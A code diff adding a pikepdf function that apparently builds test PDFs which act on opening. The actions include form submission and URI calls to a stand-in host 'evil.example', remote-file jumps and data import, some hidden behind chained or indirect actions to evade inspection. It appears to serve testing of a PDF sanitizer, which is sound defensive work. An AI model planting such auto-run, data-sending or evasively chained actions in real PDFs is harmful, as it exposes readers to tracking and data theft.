@@ -185,3 +185,54 @@ def script_in_names(document: pikepdf.Pdf) -> None:
     script = action(S="JavaScript", JS="app.alert(1)")
     tree = pikepdf.Dictionary(Names=["x", document.make_indirect(script)])
     document.Root.Names = pikepdf.Dictionary(JavaScript=tree)
+
+
+def acting_on_opening() -> list[Any]:
+    """Changes that let a PDF do something when it, or a page of it, is opened."""
+    acts = [
+        {"S": "SubmitForm", "F": "https://evil.example/", "Flags": 4},
+        {"S": "ImportData", "F": "data.fdf"},
+        {"S": "GoToR", "F": "other.pdf", "D": [0]},
+        {"S": "URI", "URI": "https://evil.example/"},
+        {"S": "Thread", "F": "other.pdf", "D": 0},
+    ]
+
+    def chained(act: Any) -> Any:
+        hidden = action(S="Hide", T="x", Next=action(**act))
+        middle = action(S="Named", N="x", Next=[hidden])
+        return action(S="GoTo", D=[0], Next=middle)
+
+    def on_page(act: Any) -> Any:
+        def change(document: pikepdf.Pdf) -> None:
+            document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=action(**act))
+
+        return change
+
+    def in_field(act: Any) -> Any:
+        def change(document: pikepdf.Pdf) -> None:
+            seen = document.make_indirect(pikepdf.Dictionary(PV=chained(act)))
+            annotation(document, "Widget", FT=pikepdf.Name.Btn, AA=seen)
+
+        return change
+
+    def far(act: Any) -> Any:
+        """Nothing stands where it is looked for but a number."""
+
+        def change(document: pikepdf.Pdf) -> None:
+            last = document.make_indirect(action(**act))
+            first = document.make_indirect(action(S="GoTo", D=[0], Next=last))
+            document.Root.OpenAction = document.make_indirect(first)
+
+        return change
+
+    def at_once(act: Any) -> Any:
+        return lambda document: set_root(OpenAction=action(**act))(document)
+
+    def later(act: Any) -> Any:
+        return lambda document: set_root(OpenAction=chained(act))(document)
+
+    def external(document: pikepdf.Pdf) -> None:
+        document.pages[0].obj.Contents["/F"] = "https://evil.example/page"
+
+    ways = (at_once, later, on_page, in_field, far)
+    return [*(way(act) for way in ways for act in acts), external]
